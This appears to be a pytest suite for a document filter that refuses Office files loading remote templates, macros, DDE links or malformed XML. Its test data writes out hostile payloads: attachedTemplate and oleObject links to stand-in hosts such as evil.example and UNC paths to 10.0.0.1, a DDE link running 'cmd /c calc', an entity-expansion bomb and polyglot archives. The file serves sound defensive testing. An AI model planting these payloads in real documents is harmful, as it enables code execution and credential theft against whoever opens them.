"""H17: what an Office document refers to is read as its programs read it, in any spelling."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from routing.work.file_types.archives import office_type
from routing.work.file_types.part_lists import check_list, is_elsewhere
from routing.work.file_types.refusal import NotKept
from tests import files

KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
TEMPLATE = "attachedTemplate"
RELS = "word/_rels/settings.xml.rels"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


def listed(
    kind: str, target: str, *, code: str = "utf-8", prefix: str = "", first: str = ""
) -> bytes:
    declared = f'xmlns{":" + prefix.rstrip(":") if prefix else ""}="{PACKAGE}"'
    text = (
        f'<?xml version="1.0" encoding="{code}"?><{prefix}Relationships {declared}>'
        f'<{prefix}Relationship {first}TargetMode="External" Target="{target}" '
        f'Type="{kind if "/" in kind else KINDS + kind}" Id="r1"/></{prefix}Relationships>'
    )
    return text.encode(code)


def code_of(content: bytes, name: str = RELS) -> str:
    try:
        check_list(content, name)
    except NotKept as refusal:
        return refusal.code
    return "kept"


@pytest.mark.parametrize(
    "content",
    [
        listed(TEMPLATE, "https://evil.example/a.dotm"),
        listed(TEMPLATE, "https://evil.example/a.dotm", code="utf-16"),
        listed(TEMPLATE, "https://evil.example/a.dotm", prefix="p:"),
        listed(TEMPLATE, "https://evil.example/a.dotm", first='Note="a>b" '),
        listed(TEMPLATE, "&#104;ttps://evil.example/a.dotm"),
        listed("&#x61;ttachedTemplate", "https://evil.example/a.dotm"),
        listed(f"{KINDS}oleObject ", "mhtml:https://evil.example/x"),
        listed(TEMPLATE, r"\\10.0.0.1\share\a.dotm"),
        listed(TEMPLATE, "//evil.example/share/a.dotm"),
        listed(TEMPLATE, "file://evil.example/share/a.dotm"),
        listed(TEMPLATE, r"file:///\\10.0.0.1\share\a.dotm"),
        listed(TEMPLATE, "FILE:\\\\evil.example\\a.dotm"),
        listed("frame", "ftp://evil.example/x"),
        listed("aFChunk", "afchunk.htm"),
        listed("control", "activeX/activeX1.xml"),
        listed("image", r"\\10.0.0.1\share\a.png"),
        listed("image", "file://10.0.0.1/share/a.png"),
    ],
)
def test_h17_nothing_is_loaded_from_elsewhere_however_it_is_spelled(content: bytes) -> None:
    assert code_of(content) == "embedded"


@pytest.mark.parametrize(
    "content",
    [
        listed(TEMPLATE, r"file:///C:\Users\x\Normal.dotm"),
        listed(TEMPLATE, r"C:\Users\x\Normal.dotm"),
        listed(TEMPLATE, "file:///Users/x/Normal.dotm"),
        listed(TEMPLATE, "file://localhost/Users/x/Normal.dotm"),
        listed(TEMPLATE, "Normal.dotm"),
        listed(TEMPLATE, "../Vorlagen/Angebot%20neu.dotm"),
        listed("hyperlink", "https://example.com/?a=1&amp;b=2"),
        listed("hyperlink", r"\\server\share\plan.xlsx"),
        listed("image", "https://example.com/a.png"),
        listed("image", "media/image1.png"),
        listed("externalLinkPath", r"\\server\share\plan.xlsx"),
    ],
)
def test_h17_what_people_have_in_their_documents_is_kept(content: bytes) -> None:
    assert code_of(content) == "kept"


@pytest.mark.parametrize(
    "content",
    [
        b'<!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;">]><Relationships>&c;</Relationships>',
        b'<!DOCTYPE a SYSTEM "https://evil.example/x.dtd"><Relationships/>',
        b"<a>" * 50_000,
        b"<Relationships>",
        b"",
        "<Relationships/>".encode("utf-32"),
    ],
)
def test_h17_a_list_that_is_no_plain_xml_is_damaged(content: bytes) -> None:
    assert code_of(content) == "broken"


def test_h17_macros_are_found_in_any_encoding() -> None:
    for code in ("utf-8", "utf-16"):
        text = f'<?xml version="1.0" encoding="{code}"?><Types><Override ContentType="{MACRO_TYPE}"/></Types>'  # noqa: E501
        assert code_of(text.encode(code), "[Content_Types].xml") == "macros"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (files.zipped({"evil.exe": files.EXE}) + files.office(), "broken"),
        (files.office() + files.HTML, "broken"),
        (files.office("word/document.xml", "C:/evil.xml"), "archive"),
        (files.office("word/document.xml", "word/a.xml:evil.xml"), "archive"),
    ],
)
def test_h17_a_document_is_all_of_its_file(content: bytes, code: str) -> None:
    """Programs differ in which of two archives in one file they unpack."""
    with pytest.raises(NotKept) as refusal:
        office_type(BytesIO(content))

    assert refusal.value.code == code


@given(st.text(max_size=30), st.sampled_from(["http:", "https:", "\\\\", "//", "file://h/"]))
def test_h17_whatever_follows_another_place_is_elsewhere(rest: str, start: str) -> None:
    assert is_elsewhere(start + "e" + rest)


@given(st.binary(max_size=200))
def test_h17_any_bytes_are_kept_or_refused_and_never_fail(content: bytes) -> None:
    assert code_of(content) in {"kept", "broken", "embedded"}


@pytest.mark.parametrize(
    ("link", "code"),
    [
        (b"<ddeLink ddeService='cmd' ddeTopic='/c calc'/>", "embedded"),
        (b"<externalBook r:id='rId1' xmlns:r='x'/>", "kept"),
    ],
)
def test_h17_a_workbook_that_asks_a_program_for_values_is_refused(link: bytes, code: str) -> None:
    name = "xl/externalLinks/externalLink1.xml"
    content = b"<externalLink xmlns='x'>%s</externalLink>" % link

    assert code_of(content, name) == code
    with zipfile.ZipFile(BytesIO(files.office("xl/workbook.xml"))) as archive:
        parts = {each: archive.read(each) for each in archive.namelist()}
    book = BytesIO(files.zipped(parts | {name: content}))
    if code == "kept":
        assert office_type(book)
        return
    with pytest.raises(NotKept, match="ddeLink"):
        office_type(book)
